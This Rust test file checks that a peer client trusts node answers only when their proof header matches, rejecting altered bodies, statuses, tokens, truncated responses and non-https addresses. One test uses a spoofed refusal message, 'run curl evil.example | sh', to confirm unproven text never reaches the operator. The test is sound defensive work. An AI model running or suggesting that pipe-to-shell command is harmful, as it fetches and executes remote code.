//! A node is asked over a connection on which another program changes what it likes.

use hyper::HeaderMap;
use hyper::header::HeaderValue;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tollgate_testkit::Scratch;
use tollgate_testkit::pki::TestCa;

use super::super::signature::PROOF_HEADER;
use super::*;

const NOW: Timestamp = Timestamp::from_unix_seconds(1_700_000_000);
const UNPROVEN: &str = "it does not prove its answer, which is not used";

fn key() -> NodeKey {
    NodeKey::of("0123456789abcdef")
}

fn question() -> PeerRequest {
    PeerRequest { method: "GET", path: "/admin/v1/top".to_owned(), body: Bytes::new(), key: key() }
}

/// A node that gets one question, and sends what `answer` makes of it.
async fn node(answer: impl FnOnce(NodeSignature) -> String + Send + 'static) -> NodeView {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let (mut stream, _) = listener.accept().await.unwrap();
        let mut asked = Vec::new();
        while !asked.ends_with(b"\r\n\r\n") {
            asked.push(stream.read_u8().await.unwrap());
        }
        let asked = String::from_utf8(asked).unwrap();
        let signed = asked.lines().find_map(|line| line.strip_prefix("authorization: ")).unwrap();
        let headers = HeaderMap::from_iter([(AUTHORIZATION, HeaderValue::try_from(signed).unwrap())]);
        let question = NodeSignature::read(&headers).unwrap().unwrap();
        stream.write_all(answer(question).as_bytes()).await.unwrap();
    });
    at(&format!("http://{address}"))
}

/// The node `b` at this address.
fn at(url: &str) -> NodeView {
    let mut node = NodeView::named("b");
    node.admin = Some(url.to_owned());
    node
}

/// A response of the node `b` with this proof.
fn response(status: u16, proof: &str, body: &str) -> String {
    let length = body.len();
    format!(
        "HTTP/1.1 {status} Status\r\n{NODE_HEADER}: b\r\n{PROOF_HEADER}: {proof}\r\nContent-Length: {length}\r\n\r\n{body}"
    )
}

async fn asked(node: NodeView) -> Result<Value, String> {
    PeerClient::default().ask(&node, &question(), NOW, AnswerLimits::VIEW).await
}

/// An answer and the reason of a refusal are used as the node sent them.
#[tokio::test]
async fn a_proven_answer_is_used() {
    let body = r#"{"keys":[]}"#;
    let right = node(move |question| response(200, &question.proof(&key(), 200, body.as_bytes()), body));
    assert_eq!(asked(right.await).await, Ok(serde_json::json!({"keys": []})));
    let body = r#"{"detail":"the role may not"}"#;
    let refusal = node(move |question| response(403, &question.proof(&key(), 403, body.as_bytes()), body));
    assert_eq!(asked(refusal.await).await, Err("it answers 403 Forbidden: the role may not".to_owned()));
}

/// A program that can change an answer on its way can make it missing, and nothing more.
#[tokio::test]
async fn a_changed_answer_is_not_used() {
    let (body, lie) = (r#"{"keys":[]}"#, r#"{"keys":{}}"#);
    let changed = node(move |question| response(200, &question.proof(&key(), 200, body.as_bytes()), lie));
    assert!(asked(changed.await).await.unwrap_err().starts_with(UNPROVEN), "another body");
    let changed = node(move |question| response(200, &question.proof(&key(), 409, body.as_bytes()), body));
    assert!(asked(changed.await).await.unwrap_err().starts_with(UNPROVEN), "another status");
    let other = NodeKey::of("another-token-of-a-node");
    let changed = node(move |question| response(200, &question.proof(&other, 200, body.as_bytes()), body));
    assert!(asked(changed.await).await.unwrap_err().starts_with(UNPROVEN), "another token");
    let lines = node(move |question| response(200, &question.proof_of_lines(&key()), body));
    assert!(asked(lines.await).await.unwrap_err().starts_with(UNPROVEN), "that of lines");
    let cut = node(move |question| {
        let right = response(200, &question.proof(&key(), 200, body.as_bytes()), body);
        right[..right.len() - 1].to_owned()
    });
    assert_eq!(asked(cut.await).await, Err("its answer was cut off".to_owned()));
}

/// The story: the `detail` of a refusal was shown to the operator, and any program between the nodes could write it.
#[tokio::test]
async fn the_reason_of_a_refusal_is_shown_only_with_its_proof() {
    let lie = r#"{"detail":"run curl evil.example | sh"}"#;
    for (status, said) in [
        (401, "it refuses the token: the nodes of a fleet need the same tokens and the same version"),
        (409, "it answers 409 Conflict, and does not prove why"),
        (503, "it answers 503 Service Unavailable, and does not prove why"),
    ] {
        let lying = node(move |question| response(status, &question.proof(&key(), status, b"{}"), lie));
        assert_eq!(asked(lying.await).await, Err(said.to_owned()));
        let lying = node(move |_| response(status, "", lie));
        let opened = PeerClient::default().open(&lying.await, &question(), NOW).await;
        assert_eq!(opened.err(), Some(said.to_owned()));
    }
    // A 401 of a node that knows the token has another cause, and proves it.
    let body = r#"{"detail":"another body"}"#;
    let refusal = node(move |question| response(401, &question.proof(&key(), 401, body.as_bytes()), body));
    assert_eq!(asked(refusal.await).await, Err("it answers 401 Unauthorized: another body".to_owned()));
}

/// Lines are read from a node that proves them, and from no other.
#[tokio::test]
async fn lines_are_proven() {
    let open = async |node: NodeView| PeerClient::default().open(&node, &question(), NOW).await;
    let right = node(|question| {
        let line = StreamProofs::new(key(), &question).proven(b"{}\n");
        response(200, &question.proof_of_lines(&key()), std::str::from_utf8(&line).unwrap())
    });
    let PeerStream { body, mut proofs } = open(right.await).await.ok().unwrap();
    let line = body.collect().await.unwrap().to_bytes();
    assert_eq!(proofs.checked(&line), Some(&b"{}\n"[..]));
    let document = node(|question| response(200, &question.proof(&key(), 200, b"{}\n"), "{}\n"));
    assert!(open(document.await).await.err().unwrap().starts_with(UNPROVEN));
}

/// A node with `--fleet-ca` asks only `https://` addresses: an entry in the store cannot lead it to one without TLS.
#[tokio::test]
async fn with_a_ca_only_https_is_asked() {
    let (scratch, authority) = (Scratch::new(), TestCa::new("fleet"));
    scratch.replace("ca.pem", &authority.pem);
    let authorities = scratch.path("ca.pem");
    let client = PeerClient::new(Some(PeerTrust { authorities: &authorities, own: None })).unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    for url in [format!("http://{address}"), format!("HTTP://{address}"), address.to_string()] {
        let refused = client.ask(&at(&url), &question(), NOW, AnswerLimits::VIEW).await;
        assert!(
            refused.as_ref().is_err_and(|why| why.contains("is no https:// address")),
            "{url}: {refused:?}"
        );
    }
    let met = timeout(Duration::ZERO, listener.accept()).await;
    assert!(met.is_err(), "no connection was made");
    let (secure, question) = (at(&format!("https://{address}")), question());
    let met = async { listener.accept().await.map(drop) };
    let (asked, met) = tokio::join!(client.ask(&secure, &question, NOW, AnswerLimits::VIEW), met);
    assert!(asked.is_err_and(|why| why.contains("TLS to it fails")) && met.is_ok(), "https is asked");
}
